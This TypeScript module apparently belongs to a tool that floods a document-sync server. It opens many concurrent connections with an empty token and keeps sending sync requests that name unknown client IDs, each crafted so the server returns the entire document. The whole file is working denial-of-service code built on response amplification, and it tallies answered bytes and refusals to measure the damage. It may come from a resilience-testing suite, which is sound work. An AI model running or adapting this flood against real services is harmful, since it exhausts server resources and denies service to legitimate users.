/** First steps of the sync that ask for a whole document each time, none like another. */
import { unknownVector } from './hostile-bytes.ts'
import type { Attack, Facts } from './order.ts'
import { type Outlet, pause } from './outlet.ts'

/** Unknown clientIDs in each vector. */
const unknown = 4

export async function floodStep1(outlet: Outlet, attack: Attack): Promise<Facts> {
  const { target, many, seconds } = attack
  const until = performance.now() + seconds * 1000
  const facts = { asked: 0, 'answered bytes': 0, closes: 0, refused: 0 }
  const one = async () => {
    while (performance.now() < until) {
      let isClosed = false
      const wire = await outlet.connect({
        slug: target.slug,
        token: '',
        onMessage: (payload) => {
          facts['answered bytes'] += payload.length
        },
        onClose: () => {
          isClosed = true
          facts.closes++
        },
      })
      if (wire === undefined) {
        facts.refused++
        await pause(200)
        continue
      }
      while (!isClosed && performance.now() < until) {
        await outlet.send(wire, unknownVector(unknown))
        facts.asked++
        await pause(5)
      }
      wire.close()
    }
  }
  await Promise.all(Array.from({ length: many }, one))
  return facts
}
